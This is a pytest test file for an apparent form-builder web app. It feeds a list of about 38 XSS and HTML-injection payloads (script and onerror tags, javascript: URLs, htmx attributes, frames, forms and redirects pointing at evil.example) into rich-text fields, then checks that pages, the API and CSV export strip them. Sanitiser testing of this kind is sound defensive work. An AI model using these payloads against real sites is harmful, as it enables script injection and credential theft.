"""S07: no markup that somebody hands in lives on a page, in an answer or in a file."""

import csv
from html.parser import HTMLParser
from io import StringIO
from typing import Any

import pytest

from regulars.form_builder.origin import Origin
from regulars.form_builder.records import create_record
from regulars.platform.accounts.access import system_access
from regulars.platform.rich_text import KEPT, read
from regulars.platform.web.markup import formatted
from tests.support.shop_forms import publish_forms
from tests.support.site import Site

NOTES: dict[str, Any] = {
    "kind": "form",
    "key": "notes",
    "label": "Notes",
    "fields": [{"key": "note", "type": "rich_text"}, {"key": "code", "type": "barcode"}],
}
ATTACKS = [
    "<script>alert(1)</script>x",
    "<img src=x onerror=alert(1)>x",
    "<svg onload=alert(1)>x",
    "<p onclick=alert(1)>x",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa\tscript:alert(1)'>x",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    '<a href="https://x.example" onmouseover=alert(1)>x</a>',
    "<iframe src=//evil.example></iframe>x",
    "<p hx-get='/w/shop/settings' hx-trigger=load>x",
    "<p data-hx-post='/w/shop/members'>x",
    "<p hx-on:click='alert(1)'>x",
    "<button hx-delete='/api/v1/x'>x</button>",
    "<form action=//evil.example><input name=password>x</form>",
    "<p style='background:url(//evil)'>x",
    "<style>@import '//evil.example'</style>x",
    "<link rel=stylesheet href=//evil.example>x",
    "<meta http-equiv=refresh content='0;url=//evil'>x",
    "<base href=//evil.example>x",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;i"
    "mg src=1 onerror=alert(1)&gt;'>x",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>x",
    "<p id=main class=btn>x",
    "<template><script>alert(1)</script></template>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>x",
    "<object data=x></object>x",
    "<embed src=x>x",
    "<video src=x onerror=alert(1)></video>x",
    "<details ontoggle=alert(1) open>x",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/w/shop/logout'>x</a>",
    "<xmp><script>alert(1)</script></xmp>x",
    "<p><!--><img src=x onerror=alert(1)>--></p>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;x",
    "<p>{{ 7*7 }}{% raw %}</p>x",
    "<![CDATA[<script>alert(1)</script>]]>x",
    "<textarea><script>alert(1)</script></textarea>x",
]


class Parts(HTMLParser):
    """Every tag, attribute and address of a piece of HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.names: set[str] = set()
        self.addresses: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.names |= {name for name, _value in attrs}
        self.addresses += [str(value) for name, value in attrs if name in ("href", "src")]


def assert_dead(html: str) -> None:
    parts = Parts(html)
    assert parts.tags <= KEPT
    assert parts.names <= {"href", "rel", "target"}
    assert all(a.startswith(("https://", "http://", "mailto:", "tel:")) for a in parts.addresses)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_alive_is_kept_or_shown(attack: str) -> None:
    assert_dead(read(attack).html)
    shown = str(formatted(attack))  # as if it had come into the store some other way
    assert_dead(shown.removeprefix('<div class="rich-text">').removesuffix("</div>"))


def test_pages_and_answers_carry_the_dead_text(site: Site) -> None:
    with site.database.workspace_tx(site.workspace) as uow:
        publish_forms(uow, [NOTES])
        values = {"note": "".join(ATTACKS), "code": "<img src=x onerror=alert(1)>"}
        made = create_record(uow, system_access("en"), "notes", values, origin=Origin("cli"))
    owner = site.signed_in("Alice")
    place = f"/w/shop/forms/notes/records/{made.id}"
    for page in ("", "/edit", "/history"):
        whole = owner.get(f"{place}{page}").text
        parts = Parts(whole.partition("<main")[2].partition("</main")[0])
        assert not {"script", "iframe", "object", "embed", "style", "base"} & parts.tags
        assert not {name for name in parts.names if name.startswith(("on", "data-hx"))}
        assert all(address.startswith(("/", "?", "#", "https://")) for address in parts.addresses)
        assert not [address for address in parts.addresses if address.startswith("//")]
    asked = f"/api/v1/forms/notes/records/{made.id}"
    answer = site.app.test_client().get(asked, headers=site.token())
    assert_dead(str((answer.json or {})["note"]))
    export = owner.get("/w/shop/forms/notes/export?format=csv").text.lstrip("\ufeff")
    (row,) = csv.DictReader(StringIO(export))
    assert_dead(row["note"])
